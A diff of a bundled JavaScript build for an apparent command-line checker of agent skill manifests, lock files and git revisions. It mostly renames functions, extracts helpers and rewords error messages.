+		const lock = text === null ? null : parseText(path, text, focus);
 		if (lock) locks.push({
 			...lock,
 			problems: [...problems, ...lock.problems]
@@ -40848,6 +41088,10 @@ async function locksIn(tree, paths, texts, parsedLocks = []) {
 		locks,
 		lockProblems
 	};
+}
+function parseText(path, text, focus) {
+	const plain = focus?.locks.get(path);
+	return focus && plain ? parsePlainLock(path, text, plain, focus.isRead) : parseLock(path, text);
 }
 async function sniffLocks(tree, paths) {
 	const unnamed = paths.filter((path) => !hasLockName(path));
@@ -41585,12 +41829,10 @@ function unknownCarriers(tree, files, reusable = []) {
 	return files.filter((file) => !known(file));
 }
 async function loadGrants(tree, files, input) {
-	const { texts, isCompared = false, isIgnored, discovered } = input;
-	const paths = new Set(tree.entries.flatMap(({ path, kind }) => kind === "symlink" ? [] : [path]));
+	const { texts, isCompared = false, discovery } = input;
+	const paths = discovery.filePaths;
 	const first = await readMore(tree, files, texts, input);
-	const roots = new Set(first.flatMap(({ carried }) => carried.plugins ?? []));
-	const known = new Set(discovered.map(({ path, carrier }) => `${carrier.id}\0${path}`));
-	const offered = withoutScripts(findInPlugins(roots, paths), tree.entries).filter(({ path, carrier }) => !known.has(`${carrier.id}\0${path}`) && !isIgnored(path));
+	const offered = offeredFiles(tree, new Set(first.flatMap(({ carried }) => carried.plugins ?? [])), discovery);
 	const listed = [...first, ...await readMore(tree, offered, texts, input)];
 	const followed = followedFiles(listed).filter(({ path }) => paths.has(path));
 	const carried = [...listed, ...await readMore(tree, followed, texts, input)];
@@ -41600,6 +41842,12 @@ async function loadGrants(tree, files, input) {
 		grants: assembleGrants(withMissingFiles(carried, paths), idOf),
 		carried
 	};
+}
+function offeredFiles(tree, pluginRoots, { filePaths, carried, isIgnored }) {
+	const found = withoutScripts(findInPlugins(pluginRoots, filePaths), tree.entries);
+	if (found.length === 0) return [];
+	const known = new Set(carried.map(({ path, carrier }) => `${carrier.id}\0${path}`));
+	return found.filter(({ path, carrier }) => !known.has(`${carrier.id}\0${path}`) && !isIgnored(path));
 }
 async function readMore(tree, files, texts, { parse, reusable = [], read = [] }) {
 	const readByFile = new Map(read.map((one) => [one.file, one]));
@@ -41924,21 +42172,21 @@ function parseSkillToml(path, text) {
 }
 // src/dialects/read-skill.ts
 function readManifests(root, paths, { texts, problems }, parse = parseSkillMd) {
-	const carriers = [...texts].map(([path, text]) => carrierOf(path, text, parse)).filter(({ skillMd }) => !skillMd?.isPage);
-	if (carriers.length === 0 && texts.size === paths.length) return null;
-	const claims = carriers.flatMap((carrier) => [syntaxClaim(carrier), ...dialects.flatMap((dialect) => dialect.claim(carrier) ?? [])]);
+	const files = [...texts].map(([path, text]) => manifestFileOf(path, text, parse)).filter(({ skillMd }) => !skillMd?.isPage);
+	if (files.length === 0 && texts.size === paths.length) return null;
+	const claims = files.flatMap((file) => [syntaxClaim(file), ...dialects.flatMap((dialect) => dialect.claim(file) ?? [])]);
 	return {
 		root,
 		path: paths[0] ?? root,
 		manifests: claims.flatMap((claim) => claim.manifest ?? []),
 		unreadable: claims.some((claim) => claim.unreadable) || texts.size < paths.length,
-		problems: [...problems.map((problem) => withEncodingSeverity(problem, carriers)), ...claims.flatMap((claim) => claim.problems)],
+		problems: [...problems.map((problem) => withEncodingSeverity(problem, files)), ...claims.flatMap((claim) => claim.problems)],
 		texts
 	};
 }
-function withEncodingSeverity(problem, carriers) {
+function withEncodingSeverity(problem, files) {
 	const { rule, at } = problem;
-	const skillMd = carriers.find(({ path }) => path === at.path)?.skillMd;
+	const skillMd = files.find(({ path }) => path === at.path)?.skillMd;
 	if (rule !== "file-encoding" || !skillMd) return problem;
 	const bodyLine = skillMd.body.locate(0, 0).range?.start.line ?? 0;
 	return !at.range || skillMd.front && at.range.start.line < bodyLine ? {
@@ -41946,7 +42194,7 @@ function withEncodingSeverity(problem, carriers) {
 		severity: "error"
 	} : problem;
 }
-function carrierOf(path, text, parse) {
+function manifestFileOf(path, text, parse) {
 	return path.endsWith(".toml") ? {
 		path,
 		skillMd: null,
@@ -42304,29 +42552,6 @@ async function loadBatch(tree, batch, input) {
 		carried
 	};
 }
-// src/pipeline/load/reuse.ts
-function reuseSkills(tree, discovered, submodules, loadedSkills) {
-	const loadedByRoot = groupBy(loadedSkills.filter(({ isUnread }) => !isUnread), ({ root }) => root);
-	const reused = [];
-	const changed = [];
-	for (const found of discovered) {
-		const same = loadedByRoot.get(found.root)?.find((loaded) => hasSameFiles(tree, found, loaded) && areSameSubmodules(loaded.submodules ?? [], submodules.get(found.root) ?? []));
-		if (same) reused.push(same);
-		else changed.push(found);
-	}
-	return {
-		reused,
-		changed
-	};
-}
-function hasSameFiles(tree, { files }, loaded) {
-	if (files.length !== loaded.files.length) return false;
-	return files.every(({ name, kind, path }, index) => {
-		const other = loaded.files[index];
-		const id = tree.id(path);
-		return other?.name === name && other.kind === kind && id !== void 0 && id === other.id;
-	});
-}
 // src/pipeline/load/unread-skills.ts
 function divideSkills(discovered, unreadRoots, loadedSkills) {
 	if (unreadRoots.size === 0) return {
@@ -42343,25 +42568,28 @@ function divideSkills(discovered, unreadRoots, loadedSkills) {
 		unread
 	};
 }
+const unknown = {
+	isUnread: true,
+	unreadable: false,
+	version: null,
+	versions: new Map(),
+	manifests: [],
+	submodules: [],
+	contract: { items: [] },
+	problems: [],
+	secrets: [],
+	digests: new Map(),
+	texts: new Map(),
+	attached: new Map(),
+	modules: new Map()
+};
 function unreadSkill({ root, manifestPaths, files }) {
 	return {
 		root,
 		files,
 		path: manifestPaths[0] ?? "",
 		name: nameOf$3(root),
-		isUnread: true,
-		unreadable: false,
-		version: null,
-		versions: new Map(),
-		manifests: [],
-		submodules: [],
-		contract: { items: [] },
-		problems: [],
-		secrets: [],
-		digests: new Map(),
-		texts: new Map(),
-		attached: new Map(),
-		modules: new Map()
+		...unknown
 	};
 }
 function withoutUnread(files, unreadRoots) {
@@ -42384,10 +42612,13 @@ async function load(tree, config, options = {}) {
 	const carriers = unknownCarriers(tree, carriedFiles, loadedCarriers);
 	const changedSkillRoots = new Set(changed.map(({ root }) => root));
 	const otherCarriers = carriers.filter(({ unit }) => unit.kind !== "skill" || !changedSkillRoots.has(unit.root));
-	const texts = await readTexts(tree, [...new Set([...filesToRead(tree, discovery), ...otherCarriers.map(({ path }) => path)])]);
-	const { locks, lockProblems } = await locksIn(tree, discovery.locks, texts, reusable?.workspace.locks);
+	const texts = await readOtherTexts(tree, [...filesToRead(tree, discovery), ...otherCarriers.map(({ path }) => path)], options.texts);
+	const { locks, lockProblems } = await locksIn(tree, discovery.locks, texts, {
+		parsedLocks: reusable?.workspace.locks,
+		focus: options.lockFocus
+	});
 	const listings = readListings(discovery.listings, texts, tree.entries);
-	const paths = new Set(tree.entries.map((entry) => entry.path));
+	const { paths } = discovery;
 	const { skills, pinned, grants, carried } = await loadContents(tree, changed, {
 		carriedFiles,
 		carriers,
@@ -42435,7 +42666,7 @@ async function load(tree, config, options = {}) {
 }
 async function loadContents(tree, discovered, input, { onSkill, onProgress, reusable, isCompared = false, algorithms = [] }) {
 	const { carriedFiles, carriers, submodules, texts, locks, paths } = input;
-	const { isIgnored, carried: discoveredCarriers } = input.discovery;
+	const { isIgnored } = input.discovery;
 	const required = requiredAlgorithms(locks);
 	const side = { paths };
 	const { skills, carried: read } = await loadSkills(tree, discovered, {
@@ -42455,8 +42686,7 @@ async function loadContents(tree, discovered, input, { onSkill, onProgress, reus
 	});
 	const { grants, carried } = await loadGrants(tree, carriedFiles, {
 		texts,
-		isIgnored,
-		discovered: discoveredCarriers,
+		discovery: input.discovery,
 		parse: keepingParser(),
 		reusable: input.loadedCarriers,
 		read,
@@ -42468,6 +42698,10 @@ async function loadContents(tree, discovered, input, { onSkill, onProgress, reus
 		grants,
 		carried
 	};
+}
+async function readOtherTexts(tree, paths, known = new Map()) {
+	const others = new Set(paths.filter((path) => !known.has(path)));
+	return new Map([...known, ...await readTexts(tree, [...others])]);
 }
 function filesToRead(tree, { locks, protos, listings, pluginFiles }) {
 	return [
@@ -42577,8 +42811,10 @@ function sideOf({ entries }) {
 }
 function unchangedTest(head, base) {
 	if (!areSameSubmodules(head.submodules, base.submodules)) return () => false;
-	const kinds = new Map(base.entries.map(({ path, kind }) => [path, kind]));
-	return ({ files }) => files.every(({ path, kind, id }) => id !== void 0 && id === base.id(path) && kinds.get(path) === kind);
+	const entries = new Map(base.entries.map((entry) => [entry.path, entry]));
+	return (skill) => {
+		return hasSameFiles(base, skill.files.map(({ path }) => entries.get(path)), skill);
+	};
 }
 function haveSamePaths(left, right) {
 	return left.length === right.length && left.every(({ path }, at) => right[at]?.path === path);
@@ -42655,7 +42891,7 @@ function machineRequirements(skills) {
 	return {
 		commands,
 		variables,
-		files: new Set(skills.flatMap(workingFilesOf).map(({ path }) => path))
+		files: new Set(skills.flatMap(filesInWorkingDirectory).map(({ path }) => path))
 	};
 }
 // src/contract/coverage/ambiguous-denial.ts
@@ -43209,6 +43445,7 @@ function relateLocks(head, base, previousByRoot, isProposed) {
 function lockContextOf(head, base, previousByRoot) {
 	const lookup = createSkillLookup(head);
 	let coveredRoots;
+	const moved = [...previousByRoot].filter(([root, before]) => before.root !== root);
 	return {
 		head: lookup,
 		base: base && createSkillLookup(base),
@@ -43216,8 +43453,8 @@ function lockContextOf(head, base, previousByRoot) {
 			coveredRoots ??= collectCoveredRoots(head.locks, lookup);
 			return coveredRoots;
 		},
-		successors: new Map([...previousByRoot].map(([root, before]) => [before.root, root])),
-		origins: new Map([...previousByRoot].map(([root, before]) => [root, before.root]))
+		successors: new Map(moved.map(([root, before]) => [before.root, root])),
+		origins: new Map(moved.map(([root, before]) => [root, before.root]))
 	};
 }
 function lockSubjects(lock, entry, tracking, context) {
@@ -43339,7 +43576,7 @@ function secretsOf$1(subjects) {
 	return [...[...new Set(subjects.map(({ skill }) => skill))].flatMap((skill) => skill?.secrets ?? []), ...subjects.flatMap(({ reference, skill }) => skill ? passedSecrets(reference, skill) : [])];
 }
 function passedSecrets({ operation, bindings }, skill) {
-	const inputs = parametersOf(skill, operation?.value ?? null)?.inputs;
+	const inputs = callInputsOf(skill, operation?.value ?? null)?.inputs;
 	return [...bindings?.fields.values() ?? []].filter(({ key }) => isSecret(inputs?.get(key))).flatMap(({ value }) => [...secretLeaves(value)]).filter(({ text }) => !/^\s*\{\{[^{}]*\}\}\s*$/.test(text));
 }
 // src/units/manifest-shape.ts
@@ -43376,8 +43613,8 @@ const types = {
 		"repository",
 		"license",
 		"displayName"
-	].map((key) => [key, [["string"], "a text"]])),
-	keywords: [["list"], "a list of texts"],
+	].map((key) => [key, [["string"], "a string"]])),
+	keywords: [["list"], "a list of strings"],
 	author: [["table"], "a mapping with `name`"],
 	agents: [["string", "list"], "a path or a list of paths"],
 	outputStyles: [["string", "list"], "a path or a list of paths"],
@@ -43420,7 +43657,7 @@ function missing(table, keys, path) {
 		if (text$1(value)?.trim()) return [];
 		if (key === "version" && source(value)) return [];
 		return [{
-			message: value ? `${code$1(key)} is ${formatValue(value)}, not a text.` : `The file has no ${code$1(key)}.`,
+			message: value ? `${code$1(key)} is ${formatValue(value)}, not a string.` : `The file has no ${code$1(key)}.`,
 			at: value?.at ?? { path },
 			about: key
 		}];
@@ -43451,7 +43688,7 @@ function entryFaults(entry, index) {
 	const value = get(entry, "name");
 	const name = text$1(value)?.trim();
 	if (!name) return [{
-		message: value ? `${code$1("name")} of plugin ${index + 1} is ${formatValue(value)}, not a text.` : `Plugin ${index + 1} has no ${code$1("name")}.`,
+		message: value ? `${code$1("name")} of plugin ${index + 1} is ${formatValue(value)}, not a string.` : `Plugin ${index + 1} has no ${code$1("name")}.`,
 		at: value?.at ?? entry.at,
 		about: `${index}\0name`
 	}];
@@ -44018,7 +44255,7 @@ function changesOf({ contract }, pair) {
 }
 // src/pipeline/report/drop-ignored.ts
 function dropIgnored(run, headConfig, baseConfig, previousByRoot) {
-	if (!baseConfig) return run;
+	if (!baseConfig || headConfig.ignore.length + baseConfig.ignore.length === 0) return run;
 	const { skills, ignoredSkills } = run.workspace;
 	const isIgnoredAtHead = ignoreMatcher(headConfig.ignore);
 	const isIgnoredAtBase = ignoreMatcher(baseConfig.ignore);
@@ -44163,7 +44400,7 @@ function withPlaces(finding, copies) {
 	};
 }
 // src/pipeline/report/pending-denials.ts
-function pendingDenials(findings, workspace, { policies, findings: { previousByRoot } }) {
+function pendingDenials(findings, workspace, { policies, findingSettings: { previousByRoot } }) {
 	const added = policies.filter(({ baseline }) => !baseline);
 	if (added.length === 0) return 0;
 	const existing = findings.filter(({ rule, state, severity }) => rule === "policy-denied" && state === "existing" && severity === "error");
@@ -44217,7 +44454,7 @@ function runSettings(config, gate, today, previousByRoot) {
 		gate,
 		today,
 		policies: effectivePolicies(config, gate.base),
-		findings: findingSettings(rules ? {
+		findingSettings: findingSettings(rules ? {
 			...config,
 			rules
 		} : config, gate, today, previousByRoot)
@@ -44234,12 +44471,12 @@ function withCommonIgnores(headConfig, baseConfig) {
 function needsAllContracts({ catalogue = false, probe }, config, gate) {
 	return catalogue || probe !== void 0 || effectivePolicies(config, gate.base).length > 0;
 }
-function countsNewOnly({ scope }, origin) {
+function countsNewFindingsOnly({ scope }, origin) {
 	return scope === "new" || scope === "auto" && origin.proposed && origin.base !== null;
 }
 function mayLeaveUnread({ origin, base, tag, probe }, config, gate) {
 	if (!base || tag !== void 0 || probe || gate.tip || config.accept.length > 0) return false;
-	return (gate.base === null || JSON.stringify(gate.base) === JSON.stringify(config)) && countsNewOnly(config, origin);
+	return (gate.base === null || JSON.stringify(gate.base) === JSON.stringify(config)) && countsNewFindingsOnly(config, origin);
 }
 // src/pipeline/report/version-tuple.ts
 function versionTuple(skill, { remote, directory }, revision) {
@@ -44499,7 +44736,7 @@ function requiredBumps(changes, shippingUnit) {
 function summarize(run, config, gate = openGate) {
 	const { workspace, origin, base = null, powers = [], unitPairs = new Map(), plugins = [] } = run;
 	const findings = [...run.findings].sort(compareFindings);
-	const onlyNew = countsNewOnly(config, origin);
+	const onlyNew = countsNewFindingsOnly(config, origin);
 	const counted = findings.filter(({ state }) => state === "new" || state === "existing" && !onlyNew);
 	const failing = counted.filter((finding) => isFailing(finding, config, gate));
 	const head = origin.head();
@@ -44586,7 +44823,7 @@ function unreadCount(unread) {
 // src/pipeline/report.ts
 function createReport(run, settings, { only = [], catalogue = false }) {
 	const { config, gate } = settings;
-	const { previousByRoot } = settings.findings;
+	const { previousByRoot } = settings.findingSettings;
 	const selected = restrictToPaths(dropIgnored(run, config, gate.base, previousByRoot), only);
 	const folded = foldCopies(selected);
 	const causes = foldConsequences(folded.findings, (finding) => isFailing(finding, config, gate));
@@ -44642,7 +44879,7 @@ async function check$1(sides, config, gate = openGate, others = nothingKnown) {
 		...draftsOf(analyses.head),
 		...relations.head,
 		...comparison.drafts
-	], [...draftsOf(analyses.base), ...relations.base], trees, settings.findings)), ...mergeRetirements([...judgements.flatMap((judgement) => judgement.findings), ...toFindings(plugins.drafts, settings.findings)], plugins.judgements)]);
+	], [...draftsOf(analyses.base), ...relations.base], trees, settings.findingSettings)), ...mergeRetirements([...judgements.flatMap((judgement) => judgement.findings), ...toFindings(plugins.drafts, settings.findingSettings)], plugins.judgements)]);
 	const gateFindings = await judgeGate({
 		trees,
 		sides,
@@ -44763,13 +45000,14 @@ function guardAgainstEmptyRun(requested, checked) {
 	if (checked.config.allowEmpty || requested.named.length === 0) return;
 	const { skills, files } = checkablePaths(checked);
 	const isChecked = (path) => files.some((file) => isAtOrInside(file, path)) || hasSkill(path, skills);
-	const { named, only = [] } = requested;
-	const reasons = named.flatMap((name, index) => {
-		const path = only[index] ?? "";
-		return isChecked(path) ? [] : ignoredSentence(name, path, checked) ?? [];
-	});
 	const advice = `With ${requested.allowEmptyHint ?? "--allow-empty"} that passes.`;
-	requireEach(requested, isChecked, [...reasons, advice].join(" "));
+	requireEach(requested, isChecked, [...ignoredSentences(requested, checked, isChecked), advice].join(" "));
+}
+function ignoredSentences({ named, only = [] }, scope, isRead) {
+	return named.flatMap((name, index) => {
+		const path = only[index] ?? "";
+		return isRead(path) ? [] : ignoredSentence(name, path, scope) ?? [];
+	});
 }
 function ignoredSentence(name, path, { head, origin, config, file }) {
 	if (!(path === "" || head.entries.some((entry) => isAtOrInside(entry.path, path))) && origin.remote !== null) return `git ignores "${name}", or it has no files.`;
@@ -44782,10 +45020,12 @@ function ignoredSentence(name, path, { head, origin, config, file }) {
 	const location = keyLocation(file, ["ignore", index]);
 	const line = location?.range ? `:${location.range.start.line}` : "";
 	const place = location ? ` (${location.path}${line})` : "";
-	return `The configuration ignores it: ${quote(config.ignore[index] ?? "")} under \`ignore\`${place}.`;
+	return `The configuration ignores "${name}": ${quote(config.ignore[index] ?? "")} under \`ignore\`${place}.`;
 }
-function requireSkills(requested, roots) {
-	requireEach(requested, (path) => hasSkill(path, roots));
+function requireSkills(requested, roots, scope) {
+	const isListed = (path) => hasSkill(path, roots);
+	const reasons = ignoredSentences(requested, scope, isListed);
+	requireEach(requested, isListed, reasons.length === 0 ? void 0 : reasons.join(" "));
 }
 function hasSkill(path, roots) {
 	return roots.some((root) => isAtOrInside(root, path) || isAtOrInside(path, root));
@@ -45637,7 +45877,7 @@ async function missingRevisionError(repository, name, noun = "") {
 	const refs = await refNames(repository);
 	if (refs.length === 0 && await commitOf(repository, "HEAD") === null) return new UsageError(`${label} is not a commit of this clone: the repository has no commit yet.`, noun === "base" ? "Compare with nothing: --base none" : void 0);
 	const suggestion = refs.includes(`origin/${name}`) ? `origin/${name}` : closestMatch(name, refs);
-	const advice = suggestion === void 0 ? await obtainAdvice(repository, name) : `Did you mean "${suggestion}"?`;
+	const advice = suggestion === void 0 ? await adviceToFetch(repository, name) : `Did you mean "${suggestion}"?`;
 	return new UsageError(`${label} is not a commit of this clone.`, advice);
 }
 async function refNames(repository) {
@@ -45647,12 +45887,12 @@ async function refNames(repository) {
 		"--format=%(refname:short)"
 	])).toString("utf8").split("\n").filter((name) => name !== "");
 }
-async function obtainAdvice(repository, name) {
+async function adviceToFetch(repository, name) {
 	if ((await readGitSettings(repository)).remote === null) return "Use a branch, a tag or a commit.";
-	const [first = "Fetch it first: git fetch origin", ...more] = [fetchCommand(name), await isShallow(repository) ? unshallowAdvice : void 0].filter((option) => option !== void 0);
+	const [first = "Fetch it first: git fetch origin", ...more] = [fetchHint(name), await isShallow(repository) ? unshallowAdvice : void 0].filter((option) => option !== void 0);
 	return more.length === 0 ? first : [first.replace(/\.$/, ""), ...more.map(lowerFirst)].join(", or ");
 }
-function fetchCommand(name) {
+function fetchHint(name) {
 	if (isObjectName(name)) return `Fetch it first: git fetch origin ${name}`;
 	const branch = name.replace(/^origin\//, "");
 	return /^[\w./-]+$/.test(branch) ? `Fetch it first: git fetch origin ${branch}:refs/remotes/origin/${branch} (and name it origin/${branch}).` : void 0;
@@ -46181,19 +46421,19 @@ var BlobTree = class {
 		return new Map([...failures, ...blobFailures]);
 	}
 };
-// src/io/draft.ts
-const draftName = /^\.(.+)\.(\d{1,10})-[0-9a-f]{12}\.tmp$/s;
-const maxDraftAge = 6e5;
-function draftOf(name) {
+// src/io/temp-file.ts
+const tempName = /^\.(.+)\.(\d{1,10})-[0-9a-f]{12}\.tmp$/s;
+const maxTempAge = 6e5;
+function tempNameOf(name) {
 	return `.${name}.${process.pid}-${randomBytes(6).toString("hex")}.tmp`;
 }
-function isDraft(path) {
-	return draftName.test(nameOf$3(path));
+function isTempFile(path) {
+	return tempName.test(nameOf$3(path));
 }
-function removeDrafts(target) {
+function removeStaleTempFiles(target) {
 	const folder = dirname(target);
 	return listNames(folder).filter((name) => {
-		const [, draftTarget, pid] = draftName.exec(name) ?? [];
+		const [, draftTarget, pid] = tempName.exec(name) ?? [];
 		return draftTarget === basename(target) && isAbandoned(join(folder, name), Number(pid));
 	}).filter((name) => tryRemove(join(folder, name))).length > 0;
 }
@@ -46207,7 +46447,7 @@ function listNames(folder) {
 function isAbandoned(path, pid) {
 	if (!isRunning(pid)) return true;
 	const stat = statSync(path, { throwIfNoEntry: false });
-	return stat !== void 0 && Date.now() - stat.mtimeMs > maxDraftAge;
+	return stat !== void 0 && Date.now() - stat.mtimeMs > maxTempAge;
 }
 function isRunning(pid) {
 	try {
@@ -46555,7 +46795,7 @@ async function stagedPaths(repository) {
 }
 function changedFiles(listed, present) {
 	return listed.flatMap(({ path, mode, oid }) => {
-		if (oid === null) return isDraft(path) ? [] : [path];
+		if (oid === null) return isTempFile(path) ? [] : [path];
 		return present.get(path)?.kind === kindOf(mode ?? "") ? [] : [path];
 	});
 }
@@ -46729,19 +46969,19 @@ async function resolveRevision(repository, text) {
 	if (name === "" || /^@\{(u|upstream|push)\}/i.test(suffix)) return resolveSymbolic(repository, text);
 	if (isPseudoReference(repository, name)) return commitOnly(await commitOf(repository, text));
 	if (name.startsWith("refs/")) return resolveReference(repository, name, suffix);
-	const meanings = await meaningsOf(repository, name, suffix.startsWith("@{"));
-	const [first] = meanings;
+	const candidates = await refCandidatesOf(repository, name, suffix.startsWith("@{"));
+	const [first] = candidates;
 	if (first === void 0) return resolveUnknownName(repository, name, suffix);
-	const rivals = meanings.filter(({ commit }) => commit !== first.commit);
-	const rival = rivals.find((meaning) => !isSameBranch(name, first, meaning));
-	if (rival) throw ambiguityError(name, first, rival);
+	const others = candidates.filter(({ commit }) => commit !== first.commit);
+	const conflict = others.find((meaning) => !isSameBranch(name, first, meaning));
+	if (conflict) throw ambiguityError(name, first, conflict);
 	await rejectAmbiguousId(repository, name, first);
-	const commit = await commitAfter(repository, first, suffix);
+	const commit = await commitWithSuffix(repository, first, suffix);
 	const isBranch = suffix === "" && isBranchRef(first.ref ?? "refs/heads/");
 	return commit === null ? null : {
 		commit,
 		isBranch,
-		note: noteOf(first, rivals[0])
+		note: noteOf(first, others[0])
 	};
 }
 function splitRevision(text) {
@@ -46815,17 +47055,17 @@ async function resolveUnknownName(repository, name, suffix) {
 	if (/^(heads|tags)\//.test(name)) return resolveReference(repository, `refs/${name}`, suffix);
 	return commitOnly(await commitOf(repository, name + suffix));
 }
-async function meaningsOf(repository, name, local) {
+async function refCandidatesOf(repository, name, localOnly) {
 	if (/[\s?*[\\]|\.\.|^\/|\/$/.test(name)) return [];
 	const originBranch = /^origin\/(.+)$/s.exec(name)?.[1];
 	const isQualified = /^(heads|tags|remotes)\//.test(name);
-	const isOnline = repository.online && !local && !isQualified;
+	const isOnline = repository.online && !localOnly && !isQualified;
 	const atOrigin = isOnline ? await originNames(repository, originBranch ?? name) : null;
 	const tags = isOnline && originBranch !== void 0 ? await originNames(repository, name) : atOrigin;
 	const isOutdated = (ref) => atOrigin !== null && ref.startsWith("refs/remotes/origin/");
 	const refs = refsOf(name).filter((ref) => !isOutdated(ref) || ref === "refs/remotes/origin/HEAD");
 	const commits = await commitsOf$1(repository, refs);
-	const localMeanings = refs.flatMap((ref, index) => {
+	const localCandidates = refs.flatMap((ref, index) => {
 		const commit = commits[index];
 		return commit ? [{
 			label: labelOf(ref),
@@ -46834,7 +47074,7 @@ async function meaningsOf(repository, name, local) {
 		}] : [];
 	});
 	const branch = originBranch ?? name;
-	const originMeanings = atOrigin?.branch ? [{
+	const originCandidates = atOrigin?.branch ? [{
 		label: `the branch "${branch}" of origin`,
 		commit: atOrigin.branch,
 		ref: null
@@ -46845,8 +47085,8 @@ async function meaningsOf(repository, name, local) {
 		ref: ""
 	}] : [];
 	return [
-		...originMeanings,
-		...localMeanings,
+		...originCandidates,
+		...localCandidates,
 		...tag
 	];
 }
@@ -46884,8 +47124,8 @@ function labelOf(ref) {
 }
 function isSameBranch(name, first, other) {
 	const isFromOrigin = first.ref === null || first.ref === `refs/remotes/origin/${name}`;
-	const local = other.ref === `refs/heads/${name}`;
-	return isFromOrigin && local && !name.startsWith("origin/");
+	const isLocalBranch = other.ref === `refs/heads/${name}`;
+	return isFromOrigin && isLocalBranch && !name.startsWith("origin/");
 }
 function noteOf(used, other) {
 	if (!other) return null;
@@ -46911,7 +47151,7 @@ async function rejectAmbiguousId(repository, name, first) {
 		ref: null
 	});
 }
-async function commitAfter(repository, { ref, commit }, suffix) {
+async function commitWithSuffix(repository, { ref, commit }, suffix) {
 	if (suffix !== "" && ref) return commitOf(repository, ref + suffix);
 	return commitId(repository, commit, suffix);
 }
@@ -48221,4 +48461,4 @@ async function chooseCommand(argv, { cwd }) {
 		args: [...argv]
 	};
 }
-export { catalogueOf as $, code$1 as $a, isManifestName as $i, hasApiVersion as $n, mapKeys as $r, migratedBlock as $t, errorLine as A, wrap as Aa, lockFormatOf as Ai, conjunction as An, escapeInvisible as Ao, pathTransition as Ar, redactCredentials as At, compareEntries as B, shellPath as Ba, require_packages as Bi, parseRange as Bn, nameOf$3 as Bo, isSet as Br, ruleDraft as Bt, remoteUrl as C, firstWithin as Ca, findCarrier as Ci, complement as Cn, nearPath$1 as Co, formatList as Cr, updateClause as Ct, lstatSafely as D, findingBlocks as Da, plainLine$1 as Di, word as Dn, readNamed as Do, keywordTransition as Dr, keyLocation as Dt, diskPath as E, changeLines as Ea, isSecretName as Ei, union as En, didYouMean as Eo, itemName as Er, powerSeverity as Et, killGroup as F, testFolderOf as Fa, leaksHome as Fi, planModuleText as Fn, encodePath as Fo, formatTransition as Fr, analyse as Ft, summarize as G, declaredBump as Ga, items as Gi, twoBodies as Gn, releaseTag as Go, verifyEntry as Gr, treeRules as Gt, skillsOfProto as H, isStalePin as Ha, fields$1 as Hi, operationOf as Hn, resolve$1 as Ho, changeRule as Hr, byId as Ht, trackChild as I, codeSpan as Ia, sanitizePaths as Ii, codeIndex as In, folderOf as Io, differencesOf as Ir, joinKnown as It, pairUnits as J, require_compare as Ja, source as Ji, memoize as Jn, selectFiles as Jr, twoFrontmatters as Jt, bumpOf as K, isVersion$1 as Ka, parsePointer as Ki, twoOperations as Kn, tool as Ko, modeVariant as Kr, maxBump as Kt, loadTipConfig as L, nameText as La, parseYaml as Li, describeEffect as Ln, isAtOrInside as Lo, listDifference as Lr, nothingKnown as Lt, runGit as M, painter as Ma, foreignHeader as Mi, createBudget as Mn, jsonText$1 as Mo, rejectedWitness as Mr, findingSettings as Mt, splitNulTerminated as N, defaultRenderOptions as Na, protoLock as Ni, spend as Nn, neutralizeCommands as No, transitionSuffix as Nr, levelOf as Nt, readFile as O, formatColumns as Oa, canonical as Oi, commonMultiple as On, statNamed as Oo, newName as Or, settingLocation as Ot, killChildren as P, sampleFolderOf as Pa, duplicateKey$2 as Pi, moduleText as Pn, decodePath as Po, valueTransition as Pr, isGuarded as Pt, restrictToPaths as Q, clip as Qa, filesDiffer as Qi, formatKey$1 as Qn, defaults$1 as Qr, migrationObstacle as Qt, readConfig as R, prose$1 as Ra, isDigestIndex as Ri, hasLimits as Rn, isInside$1 as Ro, isObject as Rr, problemDraft as Rt, readGitSettings as S, table$3 as Sa, variablesIn as Si, singleCharacter as Sn, scopes as So, fileNames as Sr, originInFrontmatter as St, folderTree as T, versionChange as Ta, unquotedColonIn as Ti, hasCodePoint as Tn, ruleLevelValue as To, formatText as Tr, matches as Tt, withProto as U, count$1 as Ua, formatPointer as Ui, routerOf as Un, selfAndAncestors as Uo, isOffByDefault as Ur, getProblemRule as Ut, protosByName as V, catalogueInNaturalOrder as Va, asWritten as Vi, blockOf as Vn, relativePath$2 as Vo, uncoveredFiles as Vr, sourceOf as Vt, check$1 as W, versionShortfall as Wa, get as Wi, twoBlocks as Wn, UsageError as Wo, describeUnhashed as Wr, powerRules as Wt, versionTuple as X, sortNaturally as Xa, toJson as Xi, baseOf$1 as Xn, hashVariants as Xr, marketplaceSkillUnlisted as Xt, pathInHead as Y, compareNatural as Ya, text$1 as Yi, adr002 as Yn, createIgnoreTest as Yr, twoManifests as Yt, withCommonIgnores as Z, isChanged as Za, contentHash as Zi, formatBump as Zn, previousSkillsByRoot as Zr, dialects as Zt, listedTree as _, searchBox as _a, matcher as _i, bottom as _n, unitKinds as _o, describeItem as _r, readLinkTargets as _t, open as a, powerChangeJson as aa, isPlainCommand as ai, nameLocation as an, isAtLeast as ao, isOptional as ar, powerTexts as at, commitsOf$1 as b, grouped$1 as ba, renamePlaceholders as bi, top as bn, isLowerLevel as bo, describeValueChange as br, memoryTree as bt, treePaths as c, rulesSection as ca, isDay as ci, lockPathOf as cn, compareText as co, isStatedOnBothSides as cr, load as ct, openSides as d, findingList as da, renderOptions as di, membersOf as dn, linksFrom as do, semanticGrades as dr, parseSkillToml as dt, manifestOf as ea, openGate as ei, applyEdits as en, formatNames as eo, hasDefault as er, statedContract as et, defaultBranches as f, inline$1 as fa, writeOutputs as fi, readSchema as fn, groupBy as fo, installFolders as fr, parsedOnAccess as ft, gitTree as g, placeLink as ga, filesByRoot as gi, isSelfContained as gn, unitKey as go, changedEntries as gr, readTexts as gt, removeDrafts as h, entryOf$3 as ha, discover as hi, isAnnotation as hn, pinLevels as ho, acceptedWitness as hr, maxTextBytes as ht, runCheck as i, json as ia, coversCommand as ii, keywordLocation as in, truncate as io, isHarmless as ir, doubtsOf as it, readGit as j, textColumns as ja, parseLock as ji, negation as jn, jsonLine as jo, pluralize as jr, messageValues as jt, LineEndings as k, formatEntries as ka, formatForFile as ki, divides as kn, withUsageErrors as ko, operationName as kr, toFindings as kt, withProgress as l, pageText as la, repositoryOptions as li, evaluateSchema as ln, inBaseOnly as lo, leavesLegacyManifest as lr, readManifests as lt, isRunning as m, catalogueVerdict as ma, relativePathsFrom as mi, groupOf as mn, isWidening as mo, lockHome as mr, digestFiles as mt, main as n, versionLocation as na, compareTools as ni, markCopies as nn, joinWithOr as no, isBundled as nr, parseVersionTag as nt, pathInDirectory as o, powerJson as oa, prefixesOf as oi, 